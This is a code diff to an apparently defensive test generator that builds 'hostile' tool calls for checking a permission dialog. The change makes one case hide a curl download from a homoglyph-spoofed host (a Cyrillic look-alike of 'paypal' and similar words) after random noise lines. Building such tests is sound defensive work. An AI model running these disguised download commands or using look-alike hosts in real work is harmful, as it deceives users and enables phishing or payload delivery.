@@ -2,7 +2,7 @@
 
 import random
 from collections.abc import Iterator
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 
 from callwright.core.access import Access, DeletePath, Reach, RunCommand, UseTool, WritePath
 from callwright.core.calls import Question
@@ -36,6 +36,8 @@ class HostileCall:
     question: Question
     harmful: str
     """A part of the command or of an argument, as the tool would receive it."""
+    disguised: str = ""
+    """A word in it that looks Latin and is not; the dialog must say so."""
 
 
 def hostile_calls(count: int, seed: int = 7) -> Iterator[HostileCall]:
@@ -87,8 +89,10 @@ def _hidden(source: random.Random) -> HostileCall:
 
 
 def _look_alike(source: random.Random) -> HostileCall:
-    harmful = f"curl https://{'paypal'.translate(_LOOK_ALIKES)}.example/{source.randrange(1000)} -o /srv/x"
-    return _command("\n".join([*_noise(source, source.randrange(40)), harmful]), harmful)
+    host = source.choice(("paypal", "copa", "peace")).translate(_LOOK_ALIKES)  # the last two wholly Cyrillic
+    harmful = f"curl https://{host}.example/{source.randrange(1000)} -o /srv/x"
+    found = _command("\n".join([*_noise(source, source.randrange(40)), harmful]), harmful)
+    return replace(found, disguised=host)
 
 
 def _written(source: random.Random) -> HostileCall:
